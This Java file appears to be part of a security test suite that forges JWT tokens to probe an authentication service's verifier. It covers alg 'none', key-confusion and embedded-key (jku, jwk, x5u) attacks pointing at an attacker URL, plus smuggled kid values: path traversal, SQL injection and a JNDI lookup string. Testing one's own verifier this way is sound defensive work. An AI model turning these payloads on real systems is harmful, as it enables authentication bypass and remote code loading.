package dev.stagedoor.auth.attacks;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.JWK;

/** Attacks by the header of a token: its algorithm, the key that it brings along, its type. */
final class HeaderAttacks {

    private HeaderAttacks() {}

    static List<Attack> algorithm(World world) {
        List<Attack> attacks = new ArrayList<>();
        for (String name : List.of("none", "None", "NONE", "nOnE", "none ", "")) {
            attacks.add(Attack.bearer(
                    "plugin token, alg '" + name + "', no signature",
                    world.plugin().header("alg", name).unsigned()));
            attacks.add(Attack.bearer(
                    "plugin token, alg '" + name + "', a signature of ES256",
                    world.plugin().header("alg", name).by(world.catalog)));
            attacks.add(Attack.bearer(
                    "user token, alg '" + name + "', no signature",
                    world.user().header("alg", name).unsigned()));
            attacks.add(Attack.bearer(
                    "limited token in the header, alg '" + name + "'",
                    Forged.limited(world.auth).header("alg", name).unsigned()));
        }
        for (Object odd : Arrays.asList(null, 0, true, List.of("ES256"), Map.of("alg", "ES256"))) {
            attacks.add(Attack.bearer(
                    "plugin token whose alg is " + odd,
                    world.plugin().header("alg", odd).by(world.catalog)));
        }
        attacks.add(Attack.bearer(
                "plugin token without alg", world.plugin().withoutHeader("alg").by(world.catalog)));
        attacks.add(Attack.bearer(
                "user token without alg", world.user().withoutHeader("alg").by(world.auth)));
        for (String variant : List.of("es256", "Es256", "ES256 ", "ECDSA", "SHA256withECDSA", "ES256K", "EdDSA")) {
            attacks.add(Attack.bearer(
                    "plugin token, alg '" + variant + "' for a key of ES256",
                    world.plugin().header("alg", variant).by(world.catalog)));
        }
        confusion(world, attacks);
        attacks.add(Attack.bearer(
                "alg ES384 for a key of P-256",
                world.plugin().header("alg", "ES384").by(world.catalog)));
        attacks.add(Attack.bearer(
                "alg RS256 for a key of P-256",
                world.plugin().header("alg", "RS256").by(world.attackerRsa)));
        attacks.add(Attack.bearer(
                "alg ES256 for an RSA key",
                Forged.plugin(world.catalogRsa).header("alg", "ES256").by(world.attacker)));
        attacks.add(Attack.bearer(
                "alg PS256 where the key says RS256",
                Forged.plugin(world.catalogRsa).header("alg", "PS256").by(world.catalogRsa, "PS256")));
        attacks.add(Attack.bearer(
                "alg RS512 where the key says RS256",
                Forged.plugin(world.catalogRsa).header("alg", "RS512").by(world.catalogRsa, "RS512")));
        attacks.add(Attack.bearer(
                "alg dir, with encryption",
                world.plugin().header("alg", "dir").header("enc", "A256GCM").by(world.catalog)));
        attacks.add(Attack.bearer(
                "alg of key wrapping", world.plugin().header("alg", "A128KW").by(world.catalog)));
        attacks.add(Attack.bearer(
                "legacy token, alg none", world.legacy().header("alg", "none").unsigned()));
        attacks.add(Attack.bearer(
                "legacy token, HS512", world.legacy().header("alg", "HS512").by(World.LEGACY_SECRET, "HS512")));
        attacks.add(Attack.bearer(
                "legacy token, HS256 with another secret",
                world.legacy().by("another".getBytes(StandardCharsets.UTF_8), "HS256")));
        attacks.add(Attack.bearer(
                "legacy token with an empty secret", world.legacy().by(new byte[0], "HS256")));
        attacks.add(Attack.bearer(
                "external token, alg none",
                world.external().header("alg", "none").unsigned()));
        attacks.add(Attack.bearer(
                "external token, HS256 with the public key",
                world.external().header("alg", "HS256").by(Keys.der(world.provider), "HS256")));
        return attacks;
    }

    /** The public key as the secret of a keyed hash, in each of the forms in which it could have been taken. */
    private static void confusion(World world, List<Attack> attacks) {
        for (JWK key : List.<JWK>of(world.catalog, world.catalogRsa)) {
            forms(key).forEach((form, secret) -> {
                for (String algorithm : List.of("HS256", "HS384", "HS512")) {
                    attacks.add(Attack.bearer(
                            "plugin token, " + algorithm + " with the public key " + key.getKeyID() + " as " + form,
                            Forged.plugin(key).header("alg", algorithm).by(secret, algorithm)));
                }
            });
        }
        forms(world.auth)
                .forEach((form, secret) -> attacks.add(Attack.bearer(
                        "user token, HS256 with the public key as " + form,
                        world.user().header("alg", "HS256").by(secret, "HS256"))));
        attacks.add(Attack.bearer(
                "plugin token, HS256 with the secret of legacy tokens",
                world.plugin().header("alg", "HS256").by(World.LEGACY_SECRET, "HS256")));
        attacks.add(Attack.bearer(
                "user token, HS256 with the secret of legacy tokens",
                world.user().header("alg", "HS256").by(World.LEGACY_SECRET, "HS256")));
    }

    private static Map<String, byte[]> forms(JWK key) {
        Map<String, byte[]> forms = new LinkedHashMap<>();
        String pem = Keys.pem(key);
        forms.put("PEM", utf8(pem));
        forms.put("PEM without its last line break", utf8(pem.strip()));
        forms.put("PEM with the line breaks of Windows", utf8(pem.replace("\n", "\r\n")));
        forms.put("DER", Keys.der(key));
        forms.put("JWK", utf8(key.toPublicJWK().toJSONString()));
        forms.put("nothing", new byte[0]);
        if (key instanceof ECKey ec) {
            forms.put("its x", ec.getX().decode());
        }
        return forms;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static List<Attack> embeddedKey(World world) {
        List<Attack> attacks = new ArrayList<>();
        String url = world.attackerUrl();
        Map<String, Map<String, Object>> headers = new LinkedHashMap<>();
        headers.put("jwk", Map.of("jwk", world.attacker.toPublicJWK().toJSONObject()));
        headers.put("jwk with its private part", Map.of("jwk", world.attacker.toJSONObject()));
        headers.put("jku", Map.of("jku", url + "/jwks.json"));
        headers.put(
                "jku and jwk",
                Map.of(
                        "jku",
                        url + "/jwks.json",
                        "jwk",
                        world.attacker.toPublicJWK().toJSONObject()));
        headers.put(
                "jku that begins like an honest address",
                Map.of("jku", url.replace("http://", "http://auth.example.com@") + "/api/auth/.well-known/jwks.json"));
        headers.put("jku in a list", Map.of("jku", List.of(url + "/jwks.json")));
        headers.put("x5u", Map.of("x5u", url + "/chain.pem"));
        headers.put(
                "x5c", Map.of("x5c", List.of(java.util.Base64.getEncoder().encodeToString(Keys.der(world.attacker)))));
        headers.put("x5t", Map.of("x5t", "AAAAAAAAAAAAAAAAAAAAAAAAAAA"));
        headers.put("x5t#S256", Map.of("x5t#S256", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"));
        headers.put(
                "all of them at once",
                Map.of(
                        "jku",
                        url + "/a",
                        "x5u",
                        url + "/b",
                        "jwk",
                        world.attacker.toPublicJWK().toJSONObject(),
                        "crit",
                        List.of("jku")));
        headers.put(
                "crit that wants jwk",
                Map.of(
                        "crit",
                        List.of("jwk"),
                        "jwk",
                        world.attacker.toPublicJWK().toJSONObject()));
        headers.put("crit that wants what nobody knows", Map.of("crit", List.of("example"), "example", 1));
        headers.put("kid of the attacker's key", Map.of("kid", world.attacker.getKeyID(), "jku", url));
        headers.put("kid that is an address", Map.of("kid", url + "/jwks.json"));
        headers.put("kid that is a path", Map.of("kid", "../../../../dev/null"));
        headers.put("kid that is SQL", Map.of("kid", "x' UNION SELECT 'attacker'--"));
        headers.put("kid that is a lookup", Map.of("kid", "${jndi:ldap://" + url.substring(7) + "/a}"));
        headers.put("kid that is a list", Map.of("kid", List.of(world.catalog.getKeyID())));
        headers.put("kid that is a number", Map.of("kid", 0));
        headers.put("a url member", Map.of("url", url));
        headers.forEach((name, members) -> {
            Forged plugin = Forged.plugin(world.catalog);
            Forged user = Forged.user(world.auth);
            members.forEach(plugin::header);
            members.forEach(user::header);
            attacks.add(Attack.bearer("plugin token of the attacker with " + name, plugin.by(world.attacker)));
            attacks.add(Attack.bearer("user token of the attacker with " + name, user.by(world.attacker)));
        });
        attacks.add(Attack.bearer(
                "user token whose issuer is the attacker",
                world.user().claim("iss", url).header("kid", "attacker-ec").by(world.attacker)));
        attacks.add(Attack.bearer(
                "external token whose issuer is the attacker",
                world.external().claim("iss", url).header("jku", url).by(world.attacker)));
        attacks.add(Attack.bearer(
                "external token of the attacker with jwk",
                world.external()
                        .header("jwk", world.attacker.toPublicJWK().toJSONObject())
                        .by(world.attacker)));
        attacks.add(Attack.bearer(
                "on behalf of a user whose token brings its key along",
                world.plugin()
                        .claim(
                                "obo",
                                Forged.limited(world.auth)
                                        .header("jku", url)
                                        .header(
                                                "jwk",
                                                world.attacker.toPublicJWK().toJSONObject())
                                        .by(world.attacker))
                        .by(world.catalog)));
        return attacks;
    }

    static List<Attack> type(World world) {
        List<Attack> attacks = new ArrayList<>();
        List<Object> types = new ArrayList<>(List.of(
                "",
                "JWT",
                "jwt",
                "JOSE",
                "at+jwt",
                "VND.BACKSTAGE.PLUGIN",
                "Vnd.Backstage.Plugin",
                "application/vnd.backstage.plugin",
                " vnd.backstage.plugin",
                "vnd.backstage.plugin ",
                "vnd.backstage.plugin\n",
                "vnd.backstage.plugin\u0000",
                "vnd.backstage.plugin;v=1",
                "vnd.backstage.plugin,vnd.backstage.user",
                "vnd.b\u0430ckstage.plugin",
                "vnd\u2024backstage\u2024plugin",
                "vnd.backstage.plugins",
                "vnd.backstage",
                0,
                true,
                List.of("vnd.backstage.plugin"),
                Map.of("typ", "vnd.backstage.plugin")));
        types.add(null);
        for (Object type : types) {
            attacks.add(Attack.bearer(
                    "plugin token whose typ is '" + type + "'",
                    world.plugin().header("typ", type).by(world.catalog)));
            attacks.add(Attack.bearer(
                    "user token for others whose typ is '" + type + "'",
                    world.user().claim("aud", "others").header("typ", type).by(world.auth)));
        }
        attacks.add(Attack.bearer(
                "plugin token without typ", world.plugin().withoutHeader("typ").by(world.catalog)));
        attacks.add(Attack.bearer(
                "user token for others without typ",
                world.user().claim("aud", "others").withoutHeader("typ").by(world.auth)));
        attacks.add(Attack.bearer(
                "plugin token with the typ of a user's",
                world.plugin().header("typ", "vnd.backstage.user").by(world.catalog)));
        attacks.add(Attack.bearer(
                "plugin token with the typ of a limited user's",
                world.plugin().header("typ", "vnd.backstage.limited-user").by(world.catalog)));
        attacks.add(Attack.bearer(
                "user token with the typ of a plugin's",
                world.user().header("typ", "vnd.backstage.plugin").by(world.auth)));
        attacks.add(Attack.bearer(
                "typ in the claims",
                world.plugin()
                        .withoutHeader("typ")
                        .claim("typ", "vnd.backstage.plugin")
                        .by(world.catalog)));
        attacks.add(Attack.bearer(
                "cty in place of typ",
                world.plugin()
                        .withoutHeader("typ")
                        .header("cty", "vnd.backstage.plugin")
                        .by(world.catalog)));
        return attacks;
    }
}
